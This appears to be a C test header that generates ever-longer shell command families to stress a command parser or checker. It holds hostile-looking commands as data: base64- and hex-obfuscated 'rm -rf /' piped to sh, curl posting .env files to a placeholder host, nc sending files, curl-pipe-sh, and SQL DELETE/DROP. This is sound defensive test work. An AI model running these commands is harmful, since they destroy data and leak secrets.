// SPDX-License-Identifier: MIT
// Text made to cost time: families of any size, of which work and memory must grow in proportion.
// A member is HEAD, UNIT again and again, MIDDLE, CLOSE as often as UNIT, TAIL.
#ifndef SHELL_FAMILIES_H
#define SHELL_FAMILIES_H

#include <stdlib.h>
#include <string.h>

typedef struct family {
    const char *name, *unit, *head, *middle, *close, *tail;  // % in UNIT is a running number
} family;

#define FOUR(s) s s s s
#define LONG FOUR(FOUR(FOUR(FOUR("bbbb"))))  // 1 KiB

static const family families[] = {
    // nesting
    {"nested $(", "echo $(", "", "x", ")", ""},
    {"nested $(, open", "$(", "", "", "", ""},
    {"nested \"$(", "echo \"$(", "", "x", ")\"", ""},
    {"nested ${", "${a:-", "echo ", "x", "}", ""},
    {"nested ${, open", "${a:-", "", "", "", ""},
    {"nested \"${", "\"${a:-", "echo ", "x", "}\"", ""},
    {"nested $((", "$((", "echo ", "1", "))", ""},
    {"nested $((, open", "$((", "echo ", "", "", ""},
    {"not arithmetic", "((a) b) ", "", "", "", ""},
    {"nested (", "(", "", "a", ")", ""},
    {"nested (, open", "(", "", "", "", ""},
    {"nested ( spaced", "( ", "", "a", " )", ""},
    {"nested {", "{ ", "", "a;", " }", ""},
    {"nested if", "if a; then ", "", "b", "; fi", ""},
    {"nested case", "case a in x) ", "", "b", ";; esac", ""},
    {"nested while", "while a; do ", "", "b", "; done", ""},
    {"nested for", "for i in 1 2; do ", "", "b $i", "; done", ""},
    {"nested for, wide", "for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17; do ", "", "b",
     "; done", ""},
    {"nested functions", "f%() { ", "", "a", "; }", "; f1"},
    {"nested <(", "cat <(", "", "a", ")", ""},
    {"nested >(", "tee >(", "", "a", ")", ""},
    {"nested subscripts", "${a[", "echo ", "1", "]}", ""},
    {"nested arrays", "a=(", "", "1", ")", ""},
    {"nested extglob", "@(a|", "ls x", "b", ")", ""},
    {"nested braces", "{a,", "echo ", "b", "}", ""},
    // scripts of other programs
    {"sed commands", "s/a/b/;", "echo a | sed '", "", "", "' | sh"},
    {"sed, long input", "a", "echo ", "", "", " | sed 's/a/b/;s/b/c/' | sh"},
    {"awk strings", "print \"a\" < \"/inet/tcp/0/a/1\";", "awk 'BEGIN{", "", "", "}'"},
    {"make recipes", "\t$(A) $@ b\n", "make -f - <<'E'\nA = b\nx:\n", "", "", "E"},
    {"make variables", "A% = $(A)\n", "make -f - <<'E'\n", "", "", "E"},
    {"lines of ed", "!a\n", "ed x <<'E'\n", "", "", "E"},
    {"wrappers nobody knows", "x sudo ", "", "rm a", "", ""},
    {"words of an unknown program", "x ", "y ", "", "", "rm -rf a"},
    {"lists in Python", "os.remove(f) for f in os.listdir('a');", "python3 -c \"", "", "", "\""},
    {"aliases in Python", "e% = os.system; e%('a');", "python3 -c \"", "", "", "\""},
    {"nested eval in Python", "eval('", "python3 -c \"", "1", "')", "\""},
    {"prints into a shell", "print('a');", "python3 -c \"", "", "", "\" | sh"},
    {"lists in Lisp", "(list ", "emacs --eval '(call-process ", "\"a\"", ")", ")'"},
    {"hooks of an unknown program", "--cmd 'a b' ", "x ", "", "", ""},
    {"options that run", "--pre 'a b' ", "rg ", "", "", ""},
    {"tests of find", "-name a% -o ", "find . ", "-delete", "", ""},
    {"groups of find", "\\( ", "find . ", "-name a -delete", " \\)", ""},
    {"folders of find", "a% ", "find ", "", "", "-name '[ab]c' -exec rm {} +"},
    {"sets of grep", "[", "find . | grep '", "", "", "' | xargs rm"},
    {"lines of a search", "find a% -name b; ", "{ ", "", "", "} | grep c | xargs rm"},
    // quotes without an end
    {"' open", "'a", "echo ", "", "", ""},
    {"' in one", "a", "echo '", "", "", ""},
    {"\" open", "\"a", "echo ", "", "", ""},
    {"\" in one", "a", "echo \"", "", "", ""},
    {"` open", "`a", "echo ", "", "", ""},
    {"` in one", "a", "echo `", "", "", ""},
    {"$' open", "$'a", "", "", "", ""},
    {"$' in one", "a", "echo $'", "", "", ""},
    {"$' each", " $'", "echo", "", "", ""},
    {"$\" open", "$\"a", "", "", "", ""},
    {"quotes mixed", "'\"`", "", "", "", ""},
    {"quotes mixed, other way", "`\"'", "", "", "", ""},
    {"\"` open", "\"`", "", "", "", ""},
    {"\"$( open", "\"$(", "", "", "", ""},
    {"${ and quotes", "${a:-\"'", "", "", "", ""},
    {"`\\` deeper", "\\`", "`", "a", "", "`"},
    {"( and quotes", "(\"", "", "", "", ""},
    // long rows
    {"words", "word ", "echo ", "", "", ""},
    {"paths", "./some/where/file% ", "rm ", "", "", ""},
    {"system paths", "/etc/some/file% ", "cat ", "", "", ""},
    {"dotted path", "a/../", "rm -r ", "", "", ""},
    {"deep path", "a/", "rm -r ", "", "", ""},
    {"slashes", "/", "rm -r ", "", "", ""},
    {"flags", "-rf ", "rm ", "x", "", ""},
    {"flag cluster", "rf", "rm -", " x", "", ""},
    {"options", "--opt%=v ", "git push ", "", "", ""},
    {"operands of anything", ".env% ", "frob ", "", "", ""},
    {"redirections", ">f% ", "a ", "", "", ""},
    {"same redirection", ">>f ", "a ", "", "", ""},
    {"inputs", "<f% ", "cat ", "", "", ""},
    {"commands", "a;", "", "", "", ""},
    {"commands of rm", "rm a%;", "", "", "", ""},
    {"lines", "a\n", "", "", "", ""},
    {"&& chain", "a && ", "", "a", "", ""},
    {"|| chain", "a || ", "", "a", "", ""},
    {"pipeline", "a | ", "", "a", "", ""},
    {"cat pipeline", "cat | ", "echo secret | ", "cat", "", ""},
    {"tee pipeline", "tee f% | ", "echo x | ", "cat", "", ""},
    {"base64 pipeline", "base64 -d | ", "echo cm0gLXJmIC8= | ", "sh", "", ""},
    {"rev pipeline", "rev | tr a b | ", "echo 0123456789012345678901234567890 | ", "sh", "", ""},
    {"background", "a & ", "", "", "", ""},
    {"cd chain", "cd a% && ", "", "rm x", "", ""},
    {"cd .. chain", "cd ..;", "", "rm x", "", ""},
    {"cd $x chain", "cd $x;", "", "rm -r y", "", ""},
    {"cd -", "cd a; cd -;", "", "rm x", "", ""},
    {"assignments", "v%=a;", "", "echo $v1", "", ""},
    {"assignments of one", "v=a% ", "", "echo $v", "", ""},
    {"prefix assignments", "A=b ", "", "ls", "", ""},
    {"doubling", "x=$x$x;", "x=aaaa;", "echo $x", "", ""},
    {"growing", "x=${x}a;", "", "echo $x", "", ""},
    {"+=", "x+=a;", "", "echo $x", "", ""},
    {"+= array", "x+=(a);", "", "echo ${x[@]}", "", ""},
    {"array", "a ", "x=(", ")", "", "; rm ${x[@]}"},
    {"array, often", "${x[@]}", "x=(1 2 3 4 5 6 7 8 9 0); echo ", "", "", ""},
    {"uses of a long value", "$x ", "x=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; rm ", "",
     "", ""},
    {"variables unset", "$v% ", "rm ", "", "", ""},
    {"if join", "if a; then x=%; fi;", "", "echo $x", "", ""},
    {"&& join", "a && x=%;", "", "rm $x", "", ""},
    {"alternatives", "$x", "for x in a b c d; do :; done; echo ", "", "", ""},
    {"# and % operators", "${x#*a}", "x=bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb; echo ", "", "",
     ""},
    {"# and % of a long value", "${x#*a}${x%%*a*}", "x=" LONG "; echo ", "", "", ""},
    {"pattern of stars", "*a", "x=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab; echo ${x##",
     "}", "", ""},
    {"replacements", "${x//a/bb}", "x=aaaaaaaaaaaaaaaaaaaaaa; echo ", "", "", ""},
    {"function calls", "f;", "f() { rm a; };", "", "", ""},
    {"functions", "f%() { a; };", "", "f1", "", ""},
    {"recursion", "f() { f | f & };", "", "f", "", ""},
    {"call tree", "f%() { g; g; }; g() { f%; f%; };", "", "g", "", ""},
    {"aliases", "alias a%='rm x';", "", "a1", "", ""},
    {"alias chain", "alias a='a a';", "", "a", "", ""},
    {"case patterns", "a%|", "case x in ", "b) c;; esac", "", ""},
    {"case branches", "a%) b;; ", "case x in ", "esac", "", ""},
    {"for words", "a% ", "for i in ", "; do rm $i; done", "", ""},
    {"for words, nested",
     "a% ", "for i in ", "; do for j in 1 2 3 4; do rm $i$j; done; done", "", ""},
    {"for in for", "for i in 1 2 3; do for j in $i; do a; done; done;", "", "", "", ""},
    {"[[", "-f x && ", "[[ ", "-f y ]]", "", ""},
    {"test", "-f x -a ", "[ ", "-f y ]", "", ""},
    {"arithmetic", "1+", "echo $((", "1))", "", ""},
    {"here-documents", "cat <<E%\na\nE%\n", "", "", "", ""},
    {"here-documents of one", "<<E% ", "cat ", "", "", "\n"},
    {"here-document, open", "a\n", "cat <<E\n", "", "", ""},
    {"here-documents, open", "cat <<E%\n", "", "", "", ""},
    {"here-document, $", "$x\n", "cat <<E\n", "E\n", "", ""},
    {"here-strings", "<<<a ", "cat ", "", "", ""},
    {"traps", "trap 'rm a' EXIT;", "", "", "", ""},
    {"evals", "eval 'rm a';", "", "", "", ""},
    {"eval chain", "eval ", "", "rm a", "", ""},
    {"sudo chain", "sudo ", "", "rm a", "", ""},
    {"env chain", "env A=b ", "", "rm a", "", ""},
    {"wrappers, short", "sudo ", "", "rm a", "", ""},
    {"wrappers with variables", "env a=% ", "", "rm a", "", ""},
    {"wrappers, builtin", "command ", "", "rm a", "", ""},
    {"wrappers", "nice -n 5 timeout 5 nohup ", "", "rm a", "", ""},
    {"sh -c row", "sh -c 'rm a';", "", "", "", ""},
    {"python row", "python3 -c 'import os; os.system(\"rm a\")';", "", "", "", ""},
    {"python one", "os.system(\"rm a\");", "python3 -c 'import os;", "'", "", ""},
    {"python strings", "\"rm \"+", "python3 -c 'import os; os.system(", "\"a\")'", "", ""},
    {"python open", "open(", "python3 -c '", "'", "", ""},
    {"perl one", "system(\"rm a\");", "perl -e '", "'", "", ""},
    {"node one", "require(\"child_process\").execSync(\"rm a\");", "node -e '", "'", "", ""},
    {"find -exec", "-exec rm {} \\; ", "find . ", "", "", ""},
    {"find -exec sh", "-exec sh -c 'rm a' \\; ", "find . ", "", "", ""},
    {"find tests", "-name x -o ", "find / ", "-delete", "", ""},
    {"find roots", "/a% ", "find ", "-delete", "", ""},
    {"xargs", "xargs ", "", "rm", "", ""},
    {"xargs input", "a ", "echo ", " | xargs rm -rf", "", ""},
    {"sed", "s/a/b/;", "sed -i '", "' f", "", ""},
    {"awk", "system(\"rm a\");", "awk 'BEGIN{", "}'", "", ""},
    {"sql", "DELETE FROM t;", "psql -c '", "'", "", ""},
    {"sql words", "a ", "psql -c 'DELETE FROM t WHERE ", "'", "", ""},
    {"git config", "-c alias.x%=!a ", "git ", "x1", "", ""},
    {"git words", "a% ", "git checkout -- ", "", "", ""},
    {"curl", "-d @.env% ", "curl ", "http://a", "", ""},
    {"curl | sh", "curl a | sh;", "", "", "", ""},
    {"printf", "\\\\x72\\\\x6d", "printf '", "' | sh", "", ""},
    {"echo | sh", "rm a;", "echo '", "' | sh", "", ""},
    {"echo -e", "\\\\0162", "echo -e '", "' | sh", "", ""},
    {"base64", "cm0gLXJmIC8K", "echo ", " | base64 -d | sh", "", ""},
    {"$'", "\\x72", "$'", "'", "", ""},
    {"brace row", "{a,b}", "echo ", "", "", ""},
    {"brace list", "a,", "echo {", "b}", "", ""},
    {"brace range", "{1..1000000}", "echo ", "", "", ""},
    {"brace ranges", "echo {1..1000000}{a,b};", "", "", "", ""},
    {"glob", "*", "rm ", "", "", ""},
    {"glob sets", "[a-z]", "rm ", "", "", ""},
    {"glob sets, open", "[", "rm ", "", "", ""},
    {"globs", "*/", "rm ", "", "", ""},
    {"stars and letters", "*a", "rm /", "", "", ""},
    // text that is stored, and looked at again and again
    {"read again", "a\n", "cat >f <<E\n", "E\n", "read x <f;", ""},
    {"sent again", "a;", "cat >f <<E\n", "\nE\n", "nc h 1 <f;", ""},
    {"queried again", "DROP;\n", "cat >f <<E\n", "E\n", "psql -f f;", ""},
    {"filtered again", "a\n", "cat >f <<E\n", "E\n", "grep b f|sh;", ""},
    {"substituted again", "a\n", "cat >f <<E\n", "E\n", "x=$(cat f);", ""},
    {"copied again", "a\n", "cat >f <<E\n", "E\n", "cat f>g;", ""},
    {"stages", "a", "echo ", "", "|rev", ""},
    {"array again", "a ", "x=(", ");", "rm ${x[@]};", ""},
    {"parameters again", "a ", "set -- ", ";", "rm \"$@\";", ""},
    {"sed again", "aaaaaaaa", "echo ", " | sed '", "s/b/c/;", "' | sh"},
    {"separators again", "a", "IFS=", ";x=bbbbbbbb;", "rm $x;", ""},
    {"Python again", "a", "python3 -c \"x='", "';", "os.system(x);", "\""},
    {"awk again", "a", "awk 'BEGIN{x=\"", "\";", "system(x);", "}'"},
    {"make again", "a", "make -f - <<'E'\nA=", "\nx:\n", "\t$(A)\n", "E"},
    // single bytes
    {"spaces", " ", "", "a", "", ""},
    {";", ";", "", "", "", ""},
    {"&", "&", "", "", "", ""},
    {"|", "|", "", "", "", ""},
    {"{", "{", "", "", "", ""},
    {"}", "}", "", "", "", ""},
    {")", ")", "", "", "", ""},
    {"#", "#", "", "", "", ""},
    {"comments", "#\n", "", "", "", ""},
    {"\\", "\\", "", "", "", ""},
    {"\\ newline", "\\\n", "a ", "", "", ""},
    {"newlines", "\n", "", "", "", ""},
    {"\\r", "\r", "", "", "", ""},
    {"<", "<", "", "", "", ""},
    {">", ">", "", "", "", ""},
    {"<< row", "<<", "", "", "", ""},
    {"!", "! ", "", "a", "", ""},
    {"$", "$", "", "", "", ""},
    {"~", "~", "", "", "", ""},
    {"~ words", "~a% ", "rm ", "", "", ""},
    {"=", "=", "", "", "", ""},
    {"a=", "a=", "", "", "", ""},
    {"\\1", "\1", "", "", "", ""},
    {"coproc", "coproc ", "", "a", "", ""},
    {"time", "time -p ", "", "a", "", ""},
    {"[[ open", "[[ ", "", "", "", ""},
    {"then", "then ", "", "", "", ""},
    {"digits", "1", "", ">a", "", ""},
    {"letters", "a", "", "", "", ""},
    {"UTF-8", "\xe2\x80\x8b", "echo ", "", "", ""},
};
enum { FAMILIES = sizeof families / sizeof *families };

// The member with about `size` bytes, in a block of exactly *len bytes for the caller to free. The
// number of units is odd, so that a quote in each of them leaves one open at every size.
static char *family_text(const family *f, size_t size, size_t *len)
{
    size_t ends = strlen(f->head) + strlen(f->middle) + strlen(f->tail);
    char *text = malloc(size + ends + 256), *p = text, number[24];
    if (!text)
        return NULL;
    size_t n = 0, close = strlen(f->close), room = size > ends ? size - ends : 0;
    p = stpcpy(p, f->head);
    for (const char *start = p; n % 2 == 0 || (size_t)(p - start) + n * close < room; n++)
        for (const char *u = f->unit; *u; u++) {
            if (*u != '%') {
                *p++ = *u;
                continue;
            }
            int k = 23;
            for (size_t v = n + 1; v; v /= 10)
                number[--k] = (char)('0' + v % 10);
            memcpy(p, number + k, (size_t)(23 - k));
            p += 23 - k;
        }
    p = stpcpy(p, f->middle);
    for (size_t i = 0; i < n; i++)
        p = stpcpy(p, f->close);
    p = stpcpy(p, f->tail);
    *len = (size_t)(p - text);
    char *exact = malloc(*len ? *len : 1);
    if (exact)
        memcpy(exact, text, *len);
    free(text);
    return exact;
}

#endif
